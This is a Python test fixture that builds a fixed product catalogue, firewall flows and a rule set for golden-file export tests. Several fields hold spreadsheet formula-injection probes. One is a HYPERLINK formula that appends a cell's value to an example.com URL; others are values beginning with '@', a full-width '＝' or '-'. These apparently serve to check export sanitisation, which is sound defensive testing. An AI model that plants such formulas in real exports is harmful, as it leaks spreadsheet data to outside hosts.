"""A catalogue, a site and a built rule set that never change, so that files of them are golden."""

from __future__ import annotations

import datetime as dt
from typing import Any

from requirements_app.accounts.models import User
from requirements_app.catalogue.content import CatalogueContent
from requirements_app.catalogue.models import Version
from requirements_app.catalogue.schema import ProductFile
from requirements_app.catalogue.services import draft_publish, draft_save
from requirements_app.core.canonical import short_id
from requirements_app.rulesets.compute.model import Entry, Hop, Result, Rule, RuleHop, Side
from requirements_app.rulesets.models import RuleSet
from requirements_app.rulesets.store import content_store
from requirements_app.sites.models import Site
from tests.catalogue import samples

FORMULA = '=HYPERLINK("http://example.com/?"&A1,"click")'
DIGEST = "v1:" + "1a2b3c4d" * 8
BUILT_AT = dt.datetime(2026, 11, 21, 9, 41, tzinfo=dt.UTC)

CATALOGUE = samples.product(
    features=[{"id": "sync", "name": "Synchronisation", "default": False}],
    parameters=[
        {"id": "region", "name": "Region", "meaning": "Where", "allowed": ["eu", "us"]},
    ],
    alternatives=[
        {"id": "time", "name": "Time", "options": [
            {"id": "own", "name": "Own"}, {"id": "pool", "name": "Pool"}]},
    ],
    flows=[
        samples.flow(
            "work",
            alternative={"group": "time", "option": "own"},
            services=[{"service": "tcp/443", "application": "HTTPS"}, "udp/53,5353"],
            purpose=FORMULA,
            notes=["@note", 'a "quoted", and\nbroken one'],
            provenance=["ports/1", "ports/2"],
        ),
        samples.flow(
            "updates",
            destination="host:update.example.com",
            requirement="conditional",
            conditions={
                "all": [{"feature": "sync"}, {"version": ">=4.1"}],
                "any": [
                    {"parameter": "region", "values": ["eu", "us"]},
                    {"platform": "windows"},
                    {"feature": "sync", "enabled": False},
                ],
            },
            alternative={"group": "time", "option": "pool"},
            tls_inspection="forbidden",
            provenance=["ports/2"],
        ),
        samples.flow("either", bidirectional=True, feature="sync", requirement="optional",
                     services=["icmp/8"]),
    ],
)  # fmt: skip


def catalogue_publish() -> Version:
    """The catalogue of this world, published by the system."""
    for file in (samples.SHARED, CATALOGUE):
        content = CatalogueContent((ProductFile.model_validate(file),))
        draft = draft_save(source=file["source"], content=content, author=None)
        version = draft_publish(draft=draft, publisher=None)
    return version


def rule_set_make(site: Site, requested_by: User) -> RuleSet:
    """A rule set of three entries in two rules, stored as a build stores it."""
    return RuleSet.objects.create(
        site=site,
        catalogue_version=site.catalogue_version,
        as_of=dt.date(2026, 11, 21),
        inputs="v1:" + "9f" * 32,
        content=content_store(RESULT),
        requested_by=requested_by,
        built_at=BUILT_AT,
    )


CLIENTS = Side("10.20.0.0/16", "Clients", "app.client", "clients")
SERVER = Side("10.10.4.21", "＝server", "app.server", "servers")
UPDATES = Side("update.example.com", "", "", "internet")


def entry(name: str, source: Side, destination: Side, service: str, **facts: Any) -> Entry:
    given: dict[str, Any] = {
        "id": short_id("e", name),
        "deployment": "production",
        "product": "app",
        "flow": "app.work",
        "source": source,
        "destination": destination,
        "service": service,
        "application": "HTTPS",
        "path": (Hop("fw-core", source.value, destination.value, service),),
        "requirement": "required",
        "phase": "operation",
        "expires_on": None,
        "tls_inspection": "unstated",
        "assertion": "stated",
        "purpose": FORMULA,
        "why": ("stated",),
        "rule_number": 1,
        **facts,
    }
    return Entry(**given)


ENTRIES = (
    entry("work", CLIENTS, SERVER, "tcp/443"),
    entry("names", CLIENTS, SERVER, "udp/53,5353", application="", requirement="optional"),
    entry(
        "updates",
        SERVER,
        UPDATES,
        "icmp/8",
        flow="app.updates",
        application="@Echo",
        path=(
            Hop("fw-core", SERVER.value, UPDATES.value, "icmp/8"),
            Hop("fw-edge", "192.0.2.7", UPDATES.value, "icmp/8"),
        ),
        requirement="conditional",
        phase="installation",
        expires_on=dt.date(2026, 12, 31),
        tls_inspection="forbidden",
        assertion="inferred",
        purpose="\u3000\u200b-2+3 after blanks",
        why=(
            "app.updates is conditional (the row says so)",
            "hosts replaced by override mirror until 2026-12-31: Out of service (owner dana)",
        ),
        rule_number=2,
    ),
)


def rule(number: int, entries: tuple[Entry, ...]) -> Rule:
    first = entries[0]
    services = tuple(each.service for each in entries)
    return Rule(
        number=number,
        id=short_id("r", number),
        source_zone=first.source.zone,
        destination_zone=first.destination.zone,
        sources=(first.source.value,),
        destinations=(first.destination.value,),
        services=services,
        path=tuple(
            RuleHop(hop.firewall, (hop.source,), (hop.destination,), services) for hop in first.path
        ),
        phase=first.phase,
        expires_on=first.expires_on,
        tls_inspection=first.tls_inspection,
        requirement=first.requirement,
        purposes=(first.purpose, "second line"),
        deployments=("production", "test"),
        products=("app",),
        entry_ids=tuple(each.id for each in entries),
    )


RESULT = Result(
    inputs_hash="v1:" + "9f" * 32,
    content_hash=DIGEST,
    entries=ENTRIES,
    rules=(rule(1, ENTRIES[:2]), rule(2, ENTRIES[2:])),
    findings=(),
    decisions=(),
)
